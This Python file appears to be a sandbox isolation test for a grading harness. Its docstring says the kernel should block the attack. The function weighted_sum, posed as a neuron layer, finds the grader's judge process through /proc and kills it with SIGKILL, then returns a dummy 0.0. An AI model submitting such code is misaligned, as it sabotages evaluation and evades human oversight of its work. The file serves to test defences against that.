"""Kills the judge, and the processes above it up to the client's.

If it succeeded: the class would not be graded to its end.
Stopped by: kernel; no process but the worker's own is in sight, and it signals nobody but itself.
Wrong: weighted_sum neuron layer
"""

import os
import signal


def parent_of(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])


def weighted_sum(x, w, b, *rest):
    zygote = os.getppid()
    judge = parent_of(zygote) if zygote > 1 else 0
    if judge > 1 and b"grader.judge." in open(f"/proc/{judge}/cmdline", "rb").read():
        os.kill(judge, signal.SIGKILL)
    return 0.0


neuron = layer = weighted_sum
